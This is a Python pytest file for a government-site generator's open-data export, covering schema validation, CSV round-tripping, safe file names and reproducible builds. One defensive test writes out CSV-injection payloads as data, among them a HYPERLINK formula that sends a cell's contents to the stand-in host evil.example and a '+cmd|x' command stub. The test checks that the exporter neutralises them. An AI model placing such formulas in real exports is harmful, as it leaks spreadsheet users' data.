"""Open data of the demo site: every file under data/ validates against data/schema.json, and the CSV
reads back, with the csv module, to the same values as the JSON."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from govsite import pipeline
from govsite.config import load_project
from govsite.outputs.opendata import CSV_COLUMNS, ExportedRow, catalogue_csv, record_file
from govsite.pipeline import BuildResult
from tests.conftest import REPO, MakeSite

BASE = "https://www.qingchuan.gov.cn/"


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, BuildResult]:
    out = tmp_path_factory.mktemp("opendata") / "build"
    return out, pipeline.build(load_project(REPO, out))


def load(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))


def validator(out: Path, definition: str | None = None) -> Draft202012Validator:
    """A validator of data/schema.json, or of one of its definitions (record files use `record`)."""
    schema = load(out / "data/schema.json")
    Draft202012Validator.check_schema(schema)
    if definition:
        schema = {"$defs": schema["$defs"], "$ref": f"#/$defs/{definition}"}
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


def errors(checker: Draft202012Validator, instance: Any) -> list[str]:
    return [f"{list(e.absolute_path)}: {e.message}" for e in checker.iter_errors(instance)]


def csv_records(out: Path) -> list[dict[str, str]]:
    raw = (out / "data/catalogue.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a BOM, so spreadsheet programs read UTF-8"
    text = raw.decode("utf-8-sig")
    # RFC 4180: CRLF ends each record (a line break inside a quoted field stays as it is).
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n") and text.endswith("\r\n")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return list(reader)


def test_the_catalogue_validates_and_lists_every_record(demo: tuple[Path, BuildResult]) -> None:
    out, result = demo
    catalogue = load(out / "data/catalogue.json")
    assert errors(validator(out), catalogue) == []
    assert catalogue["count"] == len(catalogue["records"]) == len(result.site.records)
    assert [r["index_no"] for r in catalogue["records"]] == [
        r.index_no for r in result.site.records
    ]
    assert catalogue["site"]["base_url"] == BASE


def test_each_record_file_validates_and_equals_its_catalogue_row(
    demo: tuple[Path, BuildResult],
) -> None:
    out = demo[0]
    checker = validator(out, "record")
    rows = load(out / "data/catalogue.json")["records"]
    files = sorted((out / "data/records").glob("*.json"))
    assert len(files) == len(rows)
    for row in rows:
        path = out / row["data_url"].removeprefix(BASE)
        assert path.is_file()
        data = load(path)
        assert errors(checker, data) == []
        assert data == row


def test_the_schema_catches_a_wrong_record(demo: tuple[Path, BuildResult]) -> None:
    out = demo[0]
    checker = validator(out, "record")
    good = load(out / "data/catalogue.json")["records"][0]
    assert errors(checker, good) == []
    for wrong in ({"validity": "valid"}, {"published": "2024/01/01"}, {"agencies": []}):
        assert errors(checker, {**good, **wrong}) != [], wrong
    assert errors(checker, {k: v for k, v in good.items() if k != "index_no"}) != []


def test_record_data_is_complete_and_correct(demo: tuple[Path, BuildResult]) -> None:
    out = demo[0]
    data = load(out / record_file("002583010/2021-00002"))
    assert data["doc_no"] == "青政发〔2021〕8号"
    assert data["validity"] == "repealed" and data["in_force"] is False
    assert data["superseded_by"] == "002583010/2024-00002"
    assert data["category"] == {"path": "policies/municipal-government", "title": "市政府文件"}
    assert data["agencies"] == [{"key": "gov", "title": "青川市人民政府", "code": "002583010"}]
    assert data["url"] == BASE + "records/policies/2021/business-environment-measures-2021/"
    assert (out / data["url"].removeprefix(BASE) / "index.html").is_file()
    replacement = load(out / record_file("002583010/2024-00002"))
    assert "002583010/2021-00002" in replacement["supersedes"]
    attached = [a for r in load(out / "data/catalogue.json")["records"] for a in r["attachments"]]
    assert attached and all((out / a["url"].removeprefix(BASE)).is_file() for a in attached)


def test_the_csv_reads_back_to_the_json_values(demo: tuple[Path, BuildResult]) -> None:
    out = demo[0]
    rows = load(out / "data/catalogue.json")["records"]
    read = csv_records(out)
    assert len(read) == len(rows)
    for row, cells in zip(rows, read, strict=True):
        assert cells["index_no"] == row["index_no"]
        assert cells["title"] == row["title"]
        assert cells["doc_no"] == (row["doc_no"] or "")
        assert cells["summary"] == (row["summary"] or "")
        assert cells["agencies"].split(";") == [a["title"] for a in row["agencies"]]
        assert cells["keywords"] == ";".join(row["keywords"])
        assert cells["in_force"] == str(row["in_force"]).lower()
        assert cells["category"] == row["category"]["path"]
        assert cells["url"] == row["url"] and cells["data_url"] == row["data_url"]


def test_commas_quotes_and_line_breaks_survive_the_csv(make_site: MakeSite) -> None:
    summary = '第一行，含逗号, "引号" 和\n第二行'
    root = make_site()
    record = root / "content/records/policies/2026/disclosure-work-points.md"
    text = record.read_text(encoding="utf-8").replace(
        "summary: 部署2026年全市政务公开重点工作。", f"summary: {json.dumps(summary)}"
    )
    record.write_text(text, encoding="utf-8")
    pipeline.build(load_project(root))
    cells = {r["index_no"]: r for r in csv_records(root / "build")}
    assert cells["000000001/2026-00001"]["summary"] == summary


def test_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
    make_site: MakeSite,
) -> None:
    # OWASP's CSV injection advice: =, +, -, @, tab and CR start a formula in Excel or Calc.
    title = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    root = make_site()
    record = root / "content/records/policies/2026/disclosure-work-points.md"
    text = record.read_text(encoding="utf-8")
    text = text.replace(
        "title: 示例市人民政府办公室关于印发2026年政务公开工作要点的通知",
        f"title: {json.dumps(title, ensure_ascii=False)}",
    )
    text = text.replace("summary: 部署2026年全市政务公开重点工作。", 'summary: "@SUM(1+1)"')
    text = text.replace("keywords: [政务公开, 工作要点]", 'keywords: ["+cmd|x", "-1"]')
    record.write_text(text, encoding="utf-8")
    pipeline.build(load_project(root))
    cells = {r["index_no"]: r for r in csv_records(root / "build")}["000000001/2026-00001"]
    assert cells["title"] == "'" + title
    assert cells["summary"] == "'@SUM(1+1)"
    assert cells["keywords"] == "'+cmd|x;-1"  # the cell is what a spreadsheet reads
    assert cells["index_no"] == "000000001/2026-00001"  # other cells are as they were
    (row,) = [
        r
        for r in load(root / "build/data/catalogue.json")["records"]
        if r["index_no"] == "000000001/2026-00001"
    ]
    assert (row["title"], row["summary"], row["keywords"]) == (
        title,
        "@SUM(1+1)",
        ["+cmd|x", "-1"],
    )


def test_cells_starting_with_a_tab_or_carriage_return_start_with_a_quote(
    demo: tuple[Path, BuildResult],
) -> None:
    records = load(demo[0] / "data/catalogue.json")["records"][:2]
    records[0]["title"], records[1]["title"] = "\t=1+1", "\r=1+1"
    text = catalogue_csv([ExportedRow.of(record) for record in records]).decode("utf-8-sig")
    read = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["title"] for r in read] == ["'\t=1+1", "'\r=1+1"]


def test_record_file_names_are_safe_and_distinct() -> None:
    assert record_file("002583021/2024-00012") == "data/records/002583021_2024-00012.json"
    names = ["A/B-C", "A-B/C", "A_B/C", "A/B_C", "A~5F/C", "青/1", "a.b/c", "ab/c"]
    files = [record_file(n) for n in names]
    assert len(set(files)) == len(files)
    for name in files:
        stem = name.removeprefix("data/records/").removesuffix(".json")
        assert stem.isascii() and all(c.isalnum() or c in "-_~" for c in stem)


def test_the_schema_has_this_sites_address(demo: tuple[Path, BuildResult]) -> None:
    schema = load(demo[0] / "data/schema.json")
    assert schema["$id"] == BASE + "data/schema.json"
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"


def test_machine_readable_files_do_not_depend_on_the_hash_seed(tmp_path: Path) -> None:
    """Two builds in fresh interpreters with different string hashing write the same bytes."""
    outs = []
    for seed in ("1", "2"):
        out = tmp_path / f"seed-{seed}"
        env = {**os.environ, "PYTHONHASHSEED": seed}
        command = [sys.executable, "-m", "govsite", "build", "--site", str(REPO), "--out", str(out)]
        command.append("--no-cache")  # fresh builds, and nothing written into the repository
        subprocess.run(command, cwd=REPO, env=env, check=True, capture_output=True)
        outs.append(out)
    names = ["sitemap.xml", "robots.txt", "feeds", "data"]
    files = sorted(
        p.relative_to(outs[0]) for n in names for p in (outs[0] / n).rglob("*") if p.is_file()
    )
    assert len(files) > 90
    assert [f for f in files if (outs[0] / f).read_bytes() != (outs[1] / f).read_bytes()] == []
